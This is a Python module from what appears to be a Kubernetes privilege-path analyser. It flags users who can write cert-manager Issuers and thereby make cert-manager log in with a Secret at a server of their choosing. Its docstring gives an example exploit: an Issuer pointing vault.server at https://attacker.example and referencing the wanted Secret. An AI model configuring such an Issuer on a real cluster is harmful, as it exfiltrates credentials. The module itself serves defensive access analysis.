"""An Issuer of cert-manager logs in to a Vault, a DNS provider or a Venafi server with a credential from a Secret, at
an address that the Issuer names. Whoever may write one has cert-manager send a Secret to a server of his own.

## Needs

``create``, ``update`` or ``patch`` on ``issuers``: Secrets of that namespace. On ``clusterissuers``: Secrets of the
namespace in which cert-manager runs.

## Exploited

An Issuer with ``vault.server: https://attacker.example`` and ``vault.auth.appRole.secretRef`` of the Secret that is
wanted: cert-manager logs in with it at once.

## Closed

Platform engineers write issuers; application teams write Certificates.

## References

- https://cert-manager.io/docs/configuration/vault/
- https://cert-manager.io/docs/configuration/#cluster-resource-namespace

Not demonstrated: cert-manager decides.
"""

from __future__ import annotations

from collections.abc import Iterator

from strongroom.access.operators import writers
from strongroom.access.way import Way
from strongroom.access.world import World
from strongroom.model.access import Power, Step, power

_GROUP = "cert-manager.io"
_HOME = "cert-manager"
_RESOURCE_NAMESPACE = "--cluster-resource-namespace="


def steps(world: World) -> Iterator[Step]:
    """Yield who has cert-manager log in with a Secret at a server of his own."""
    for writer in writers(world, _GROUP, "issuers"):
        yield writer.to(Power.READ_SECRETS, WAY.id, "writes issuers")
    home = _home(world)
    for writer in writers(world, _GROUP, "clusterissuers"):
        yield writer.step(power(Power.READ_SECRETS, home), WAY.id, "writes clusterissuers")


def _home(world: World) -> str:
    """Return the namespace in which ClusterIssuers look for Secrets."""
    for code in world.code:
        for container in code.workload.containers:
            if "cert-manager-controller" in container.image:
                named = [word for _, word in container.words if word.startswith(_RESOURCE_NAMESPACE)]
                name = named[-1].removeprefix(_RESOURCE_NAMESPACE) if named else ""
                return name if name and "$" not in name else code.namespace
    return _HOME


WAY = Way("issuer-write", "has cert-manager log in with it", ("T1528",), steps, demonstrated=False)
